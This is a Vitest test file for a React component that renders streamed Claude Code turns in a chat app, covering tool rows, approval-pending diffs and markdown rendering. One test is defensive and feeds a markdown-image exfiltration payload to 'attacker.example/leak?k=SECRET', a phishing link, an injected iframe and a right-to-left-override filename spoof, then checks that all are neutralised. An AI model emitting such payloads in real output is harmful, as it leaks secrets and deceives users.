import {act, cleanup, render, screen} from '@testing-library/react';
import * as React from 'react';
import {Provider} from 'react-redux';
import {afterEach, describe, expect, it} from 'vitest';

import {TurnPost} from '../src/components/turn_post';
import type {HostPost} from '../src/mattermost';
import {ev} from './events';
import {hostStore} from './host_store';

afterEach(() => {
    cleanup();
    delete window.PostUtils;
});

const post = (props: Record<string, unknown> | null, message = 'Hello from the post (as mobile sees it)'): HostPost => ({
    id: 'post1',
    channel_id: 'c1',
    user_id: 'u-bot',
    type: 'custom_claude_code',
    message,
    props,
});

function mount(p: HostPost) {
    const host = hostStore();
    const view = render(
        <Provider store={host.store}>
            <TurnPost post={p} />
        </Provider>,
    );
    return {...host, view};
}

const start = [ev(1, 'prompt', {prompt_id: 'p1', author: 'u-alice', text: 'list files'}), ev(2, 'status', {state: 'running', previous: 'idle'})];

describe('TurnPost', () => {
    it('shows the text as message events stream in, the tool rows, then the closing line', () => {
        const {feed, view} = mount(post({claude_code_session: 's1', claude_code_turn: 'p1'}));
        act(() => void feed(...start, ev(3, 'message', {text: 'Let me '})));
        const turn = view.container.querySelector('.claude-code-turn')!;
        expect(turn.textContent).toContain('Let me ');
        expect(turn.getAttribute('aria-busy')).toBe('true');
        expect(screen.getByRole('status').textContent).toBe('⏳ Working…');
        expect(turn.textContent).not.toContain('Hello from the post');

        act(() => void feed(ev(4, 'message', {text: 'look.'})));
        expect(turn.textContent).toContain('Let me look.');

        act(() => void feed(ev(5, 'tool', {phase: 'use', tool_use_id: 't1', tool: 'Bash', input: '{"command":"ls -la"}'})));
        const row = view.container.querySelector('details.claude-code-tool')!;
        expect(row.querySelector('summary')!.getAttribute('aria-label')).toBe('Bash ls -la: running');
        expect(row.hasAttribute('open')).toBe(false);

        act(() => void feed(ev(6, 'tool', {phase: 'result', tool_use_id: 't1', tool: 'Bash', is_error: false, output: 'a.rs\nb.rs\n'})));
        expect(row.querySelector('summary')!.getAttribute('aria-label')).toBe('Bash ls -la: done');
        expect(screen.getByRole('region', {name: 'Output of Bash'}).textContent).toBe('a.rs\nb.rs\n');
        expect(screen.getByRole('region', {name: 'Command'}).textContent).toBe('ls -la');

        act(() => void feed(ev(7, 'turn', {prompt_id: 'p1', is_error: false, subtype: 'success', duration_ms: 1234, num_turns: 2, total_cost_usd: '0.0123'})));
        expect(screen.getByRole('status').textContent).toBe('✓ Done in 1.2 s · 2 turns · $0.0123');
        expect(turn.getAttribute('aria-busy')).toBe('false');
        expect(turn.textContent).toContain('Let me look.');
    });

    it('a turn the session stopped mid-way is no longer busy and says it stopped', () => {
        const {feed, view} = mount(post({claude_code_session: 's1', claude_code_turn: 'p1'}));
        act(() => void feed(...start, ev(3, 'message', {text: 'half way'}), ev(4, 'status', {state: 'stopping'}), ev(5, 'status', {state: 'stopped'})));
        expect(view.container.querySelector('.claude-code-turn')!.getAttribute('aria-busy')).toBe('false');
        expect(screen.getByRole('status').textContent).toBe('✗ Stopped');
        expect(view.container.textContent).toContain('half way');
    });

    it('finds its turn by the seq that opened it, too', () => {
        const {feed, view} = mount(post({claude_code_session: 's1', claude_code_turn: 2}));
        act(() => void feed(...start, ev(3, 'message', {text: 'streamed'})));
        expect(view.container.textContent).toContain('streamed');
    });

    it('shows an edit as a diff in its row, which says it waits for approval, without drawing the card itself', () => {
        const {feed, view} = mount(post({claude_code_session: 's1', claude_code_turn: 'p1'}));
        const input = JSON.stringify({file_path: '/p/a.txt', old_string: 'old', new_string: 'new'});
        act(
            () =>
                void feed(
                    ...start,
                    ev(3, 'tool', {phase: 'use', tool_use_id: 't1', tool: 'Edit', input, file_path: '/p/a.txt'}),
                    ev(4, 'approval', {phase: 'requested', approval_id: 'a1', tool_use_id: 't1', tool: 'Edit', input}),
                ),
        );
        const summary = view.container.querySelector('summary')!;
        expect(summary.getAttribute('aria-label')).toBe('Edit /p/a.txt: waiting for approval');
        expect(summary.textContent).toContain('waiting for approval');
        const diff = screen.getByLabelText('Proposed change to /p/a.txt');
        expect([...diff.querySelectorAll('[data-sign]')].map((l) => l.textContent)).toEqual(['-old', '+new']);
        // The card post is the one place to decide.
        expect(screen.queryByRole('button')).toBeNull();
        expect(view.container.querySelector('[data-claude-code-card]')).toBeNull();

        act(() => void feed(ev(5, 'approval', {phase: 'decided', approval_id: 'a1', decision: 'allow', by: 'u-alice'})));
        expect(summary.getAttribute('aria-label')).toBe('Edit /p/a.txt: running');
    });

    it('a continuation part says "continued above" while the live turn is its own, else shows its message', () => {
        const part = (turnId: string) => post({claude_code_session: 's1', claude_code_turn: turnId, claude_code_part: 1}, 'the text past the limit');
        const live = mount(part('p1'));
        act(() => void live.feed(...start, ev(3, 'message', {text: 'long text'})));
        expect(live.view.container.textContent).toBe('(continued in the post above)');
        cleanup();

        const old = mount(part('p0'));
        act(() => void old.feed(...start, ev(3, 'message', {text: 'long text'})));
        expect(old.view.container.textContent).toBe('the text past the limit');
        cleanup();

        // Part 0 is the turn's own post: the live text.
        const first = mount(post({claude_code_session: 's1', claude_code_turn: 'p1', claude_code_part: 0}));
        act(() => void first.feed(...start, ev(3, 'message', {text: 'long text'})));
        expect(first.view.container.textContent).toContain('long text');
    });

    it("renders the post's own message without live state: an old post, a reload, no props", () => {
        const none = mount(post({claude_code_session: 's1', claude_code_turn: 'p1'}));
        expect(none.view.container.textContent).toBe('Hello from the post (as mobile sees it)');
        cleanup();

        // The session's live turn is a later one than this post's.
        const older = mount(post({claude_code_session: 's1', claude_code_turn: 'p0'}));
        act(() => void older.feed(...start, ev(3, 'message', {text: 'the newer turn'})));
        expect(older.view.container.textContent).toBe('Hello from the post (as mobile sees it)');
        cleanup();

        // A post that names its session but not its turn (the server does not set the props yet).
        const unnamed = mount(post({session_id: 's1'}));
        act(() => void unnamed.feed(...start, ev(3, 'message', {text: 'whose?'})));
        expect(unnamed.view.container.textContent).toBe('Hello from the post (as mobile sees it)');
        cleanup();

        expect(mount(post(null)).view.container.textContent).toBe('Hello from the post (as mobile sees it)');
    });

    it('renders live text through the host markdown with no image, no link, and the bidi controls shown', () => {
        const seen: string[] = [];
        // The host's markdown, as far as this payload goes: an image, a link, a paragraph.
        window.PostUtils = {
            formatText: (text) =>
                `<p>${text.replace(/!\[([^\]]*)\]\(([^)]*)\)/g, '<img src="$2" alt="$1">').replace(/\[([^\]]*)\]\(([^)]*)\)/g, '<a href="$2">$1</a>')}</p><iframe src="https://attacker.example/f"></iframe>`,
            messageHtmlToComponent: (html) => {
                seen.push(html);
                return <div data-testid='host-md' dangerouslySetInnerHTML={{__html: html}} />;
            },
        };
        const {feed} = mount(post({claude_code_session: 's1', claude_code_turn: 'p1'}));
        const leak = '![x](https://attacker.example/leak?k=SECRET) see [the docs](https://attacker.example/phish) in \u202etxt.exe';
        act(() => void feed(...start, ev(3, 'message', {text: leak})));

        const shown = screen.getByTestId('host-md');
        expect(shown.querySelector('img, a, iframe')).toBeNull();
        expect(shown.textContent).toBe('[image: x] see the docs in [U+202E]txt.exe');
        expect(seen.at(-1)).not.toContain('attacker.example');
    });

    it('shows bidi and invisible controls of a plain-text message escaped, as the server does', () => {
        const {view} = mount(post(null, 'report\u202Egnp.exe\u200b\u0007 ok \u200d'));
        expect(view.container.textContent).toBe('report[U+202E]gnp.exe[U+200B][U+0007] ok \u200d');
    });

    it("renders markdown through the host's PostUtils when present", () => {
        window.PostUtils = {
            formatText: (text) => `<b>${text}</b>`,
            messageHtmlToComponent: (html) => <span data-testid='host-md'>{html}</span>,
        };
        mount(post(null, '**bold**'));
        expect(screen.getByTestId('host-md').textContent).toBe('<b>**bold**</b>');
    });
});
